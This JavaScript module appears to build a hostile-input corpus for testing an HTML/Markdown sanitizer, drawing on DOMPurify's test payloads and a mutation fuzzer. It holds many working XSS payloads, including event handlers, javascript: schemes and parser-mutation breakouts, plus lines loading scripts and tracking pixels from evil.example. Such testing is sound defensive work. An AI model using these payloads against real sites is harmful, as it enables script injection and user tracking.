// Hostile texts: a published corpus, the project's own, and mutations of both.
//
// Published: the test suite of DOMPurify (github.com/cure53/DOMPurify, MPL-2.0 OR Apache-2.0), as its npm package of version 0.7.4
// carries it. The list below is our own: one of each class that is known.

import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

const E = "https://evil.example";
const JS = "top.pwned=1";

/** The payloads of DOMPurify's own tests. */
export function published() {
  const module = { exports: {} };
  const file = createRequire(import.meta.url).resolve("dompurify/test/fixtures/expect.js");
  new Function("module", "exports", readFileSync(file, "utf8"))(module, module.exports);
  return module.exports.map(({ payload }) => payload);
}

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java&Tab;script:", "java&NewLine;script:", "&#106;avascript:",
  "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;", "\u0001javascript:", "&#1;javascript:", "&#14; javascript:", "\u00a0javascript:",
  "vbscript:", "livescript:", "data:text/html,<script>top.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>", "blob:x", "filesystem:x", "view-source:javascript:", "feed:javascript:",
  "jar:javascript:", "about:blank#", "file:///etc/passwd#",
];

const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onfocusin", "ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onbegin",
  "onpointerenter", "onpointerrawupdate", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscroll", "onscrollend", "onwheel", "onpaste", "oncut", "oncopy",
  "onbeforeinput", "oncanplay", "onhashchange", "onmessage", "onpageshow", "onresize", "onsecuritypolicyviolation", "ONERROR", "onError\u0000", "on\u0000error"];

const ELEMENTS = ["img src=x", "svg", "body", "details open", "video autoplay src=x", "audio src=x", "input autofocus", "select autofocus", "textarea autofocus", "marquee",
  "iframe src=x", "object data=x", "embed src=x", "math", "a href=# tabindex=1 autofocus", "div popover", "style", "link rel=stylesheet href=x", "custom-element"];

/** Our own: one of each class that is known. */
export function own() {
  const links = SCHEMES.flatMap((scheme) => [`<a href="${scheme}${JS}">x</a>`, `<img src="${scheme}${JS}" alt="x">`, `[x](${scheme.replace(/\s/g, "%20")}${JS})`,
    `<form action="${scheme}${JS}"><button>x</button></form>`, `<iframe src="${scheme}${JS}"></iframe>`]);
  const handlers = ELEMENTS.flatMap((element, at) => HANDLERS.filter((_, n) => n % ELEMENTS.length === at || n < 3).map((handler) => `<${element} ${handler}="${JS}">`));
  return [...links, ...handlers, ...SINGLE];
}

const SINGLE = [
  // Scripts, whole and broken.
  `<script>${JS}</script>`, `<SCRIPT SRC=${E}/x.js></SCRIPT>`, `<scr<script>ipt>${JS}</scr</script>ipt>`, `<script/xss src=//evil.example/x.js>`, `<<script>${JS};//<</script>`,
  `<script\u0000>${JS}</script>`, `<script>${JS}`, `"><script>${JS}</script>`, `'"></title><script>${JS}</script>`, `</textarea><script>${JS}</script>`, `--><script>${JS}</script>`,
  `]]><script>${JS}</script>`, `<script type=module>${JS}</script>`, `<script src=data:,${JS}></script>`, `<svg><script>${JS}</script></svg>`, `<svg><script href=data:,${JS} />`,
  `<script type=application/ld+json></script><script>${JS}</script>`, `<noscript><p title="</noscript><img src=x onerror=${JS}>">`, `<template><script>${JS}</script></template>`,
  // Attributes that break out.
  `<img src="x\` \`<script>${JS}</script>"\` \`>`, `<img """><script>${JS}</script>">`, `<a title='"><img src=x onerror=${JS}>'>x</a>`, `<img alt="<x" title="/><img src=x onerror=${JS}>">`,
  `<img src=x/onerror=${JS}>`, `<img/src=x/onerror=${JS}/>`, `<img src=x\u000bonerror=${JS}>`, `<a href="x" "onclick=${JS}">x</a>`, `<b title="&quot; onmouseover=${JS} x=&quot;">x</b>`,
  // Mutations: what one parser reads and another reads otherwise.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`, `<svg><style><img src=x onerror=${JS}></style></svg>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${JS}></style></annotation-xml></math>`,
  `<svg><desc><style><img src=x onerror=${JS}></style></desc></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>`, `<noembed><img src=x onerror=${JS}></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${JS}>"></xmp>`, `<noframes><p title="</noframes><img src=x onerror=${JS}>"></noframes>`, `<plaintext><img src=x onerror=${JS}>`,
  `<iframe><p title="</iframe><img src=x onerror=${JS}>"></iframe>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${JS}>">`,
  `<table><td><select><svg><style><img src=x onerror=${JS}></style></svg></select></td></table>`, `<a><table><a href="javascript:${JS}">x</a></table></a>`, `<li><table><style><li><img src=x onerror=${JS}></style>`,
  `<!--><img src=x onerror=${JS}>-->`, `<!--!><img src=x onerror=${JS}>-->`, `<!---!><img src=x onerror=${JS}>`, `<?xml <img src=x onerror=${JS}> ?>`, `<![CDATA[<img src=x onerror=${JS}>]]>`, `<!DOCTYPE html><img src=x onerror=${JS}>`,
  // Frames, plug-ins and redirections.
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`, `<iframe src="${E}/"></iframe>`, `<iframe src="https://video.example@evil.example/"></iframe>`, `<iframe src="//evil.example/" title="<img src=x onerror=${JS}>"></iframe>`,
  `<iframe src="https://video.example/e?x=&quot;&gt;&lt;img src=x onerror=${JS}&gt;" title="&quot;&gt;&lt;img src=x onerror=${JS}&gt;"></iframe>`, `<object data="${E}/x.swf"></object>`, `<embed src="${E}/x">`, `<applet code=x></applet>`,
  `<portal src="${E}"></portal>`, `<fencedframe src="${E}"></fencedframe>`, `<frameset><frame src="${E}"></frameset>`, `<meta http-equiv="refresh" content="0;url=${E}/">`, `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<base href="${E}/"><a href=x>x</a><img src=x>`, `<meta http-equiv="Set-Cookie" content="a=b">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  // Requests without a script.
  `<img src="${E}/pixel.gif" width=1 height=1>`, `<img src="//evil.example/a.jpg">`, `<img src="/\\evil.example/a.jpg">`, `<img src="\\\\evil.example/a.jpg">`, `<img src="https:evil.example/a.jpg">`, `<img src="///evil.example/a.jpg">`,
  `<img src="/\t/evil.example/a.jpg">`, `<img src="ht\ntps://evil.example/a.jpg">`, `<img src=" //evil.example/a.jpg">`, `<img src="&#47;&#47;evil.example/a.jpg">`, `<img src="http://127.0.0.1:9/a.jpg">`, `![x](${E}/a.jpg)`, `![x](//evil.example/a.jpg "t")`,
  `![x](/\\evil.example/a.jpg)`, `![x](<//evil.example/a b.jpg>)`, `![x][r]\n\n[r]: ${E}/a.jpg`, `[![x](${E}/a.jpg)](${E}/)`, `<img srcset="${E}/a.jpg 1x, ${E}/b.jpg 2x">`, `<picture><source srcset="${E}/a.jpg"><img src=/x.png></picture>`,
  `<video poster="${E}/a.jpg" src="${E}/v.mp4"></video>`, `<audio src="${E}/a.mp3" preload=auto></audio>`, `<track src="${E}/t.vtt">`, `<link rel=stylesheet href="${E}/x.css">`, `<link rel=preload as=image href="${E}/x">`, `<link rel=dns-prefetch href="${E}">`,
  `<link rel=prerender href="${E}">`, `<style>@import "${E}/x.css";</style>`, `<style>body{background:url(${E}/b)}</style>`, `<p style="background:url(${E}/b)">x</p>`, `<p style="background:url(&quot;${E}/b&quot;);position:fixed;inset:0">x</p>`,
  `<table background="${E}/b"><td background="${E}/c">x</table>`, `<body background="${E}/b">`, `<input type=image src="${E}/b">`, `<svg><image href="${E}/b" /></svg>`, `<svg><use href="${E}/b#x" /></svg>`, `<svg><filter><feImage href="${E}/b"/></filter></svg>`,
  `<a href="${E}/" ping="${E}/ping">x</a>`, `<a href="${E}/" rel="prefetch prerender" target="_self">x</a>`, `<q cite="${E}/q">x</q>`, `<html manifest="${E}/m">`, `<math href="${E}/m">x</math>`, `<img lowsrc="${E}/l" dynsrc="${E}/d" longdesc="${E}/g" src=/x.png>`,
  `<ins style="list-style:url(${E}/l)">x</ins>`, `<div style="content:url(${E}/l)">x</div>`, `<script type=speculationrules>{"prefetch":[{"urls":["${E}/"]}]}</script>`, `<script type=importmap>{"imports":{"x":"${E}/x.js"}}</script>`,
  // Clobbering and disguise.
  `<form id=document name=body><input name=location><input id=cookie></form>`, `<img name=getElementById><img id=querySelector>`, `<a id=location href="${E}">x</a><a id=location name=href href="${E}">x</a>`, `<p id="koran-main" class="masthead">x</p>`,
  `<p id="warta-0-embed-0">x</p>`, `<span class="embed" data-embed="${E}/"><a href="${E}/">x</a></span>`, `<div style="position:fixed;inset:0;z-index:9"><a href="${E}/">x</a></div>`, `<dialog open>x</dialog>`, `<slot name=x></slot>`, `<p is=x-y slot=z part=q>x</p>`,
  // Template syntax and control characters.
  `{{ site.title }}{% raw %}{{ __tera_context }}{% endraw %}`, `{{< iframe >}}{%- include "base.html" -%}`, "${alert(1)}<%= 1 %>", "\u2028\u2029\ufeff\u202e</script>", "a\u0007b\u001bc<b\u0000>d", `%3Cscript%3E${JS}%3C/script%3E`,
  `+ADw-script+AD4-${JS}+ADw-/script+AD4-`, `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`, `<a href="https://x.example/%0d%0aSet-Cookie:a=b">x</a>`, "`<script>" + JS + "</script>`", `    <script>${JS}</script>`, "```html\n<script>" + JS + "</script>\n```",
  `<javascript:${JS}>`, `[x]: javascript:${JS}\n\n[x]`, `[x](<javascript:${JS}>)`, `[x](data:text/html,<script>${JS}</script>)`, `[x](https://x.example/"onmouseover=${JS} "t")`, `![x"onerror="${JS}](/x.png)`, `![x](/x.png "\\"onload=${JS} ")`,
  `| <script>${JS}</script> |\n|--|\n| <img src=x onerror=${JS}> |`, `# <img src=x onerror=${JS}> {#x"onclick="${JS}"}`, `[^1]\n\n[^1]: <script>${JS}</script>`, `[^"><script>${JS}</script>]\n\n[^"><script>${JS}</script>]: x`,
];

/** Mutations of texts: pieces of several joined, cut, doubled, in other case, with characters between. `chance` gives numbers from 0 to 1. */
export function mutations(texts, count, chance) {
  const pick = (list) => list[Math.floor(chance() * list.length)];
  const cut = (text) => text.slice(Math.floor(chance() * text.length));
  const between = ["\u0000", "\t", "\n", "/", " ", "<", ">", '"', "'", "<!--", "-->", "&", ";", "<p>", "</p>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<table>", "<title>", "</title>", "<select>", "<template>", "`", "*", "> ", "\n\n"];
  const ways = [
    (text) => { const at = Math.floor(chance() * text.length); return text.slice(0, at) + pick(between) + text.slice(at); },
    (text) => { const at = Math.floor(chance() * text.length); return text.slice(0, at) + pick(texts) + text.slice(at); },
    (text) => text.slice(0, Math.ceil(chance() * text.length)) + cut(pick(texts)),
    (text) => pick(between) + text + pick(between),
    (text) => [...text].map((c) => (chance() < 0.5 ? c.toUpperCase() : c)).join(""),
    (text) => text.replace(/[a-z]/i, (c) => `&#${c.charCodeAt(0)};`),
    (text) => text.replace(/"/g, () => pick(["'", "`", "", '"'])),
    (text) => { const at = Math.floor(chance() * text.length); return text.slice(0, at) + text.slice(at + 1 + Math.floor(chance() * 6)); },
  ];
  return Array.from({ length: count }, () => {
    let text = pick(texts);
    for (let step = Math.ceil(chance() * 3); step > 0; step--) text = pick(ways)(text);
    return text.slice(0, 4000);
  });
}
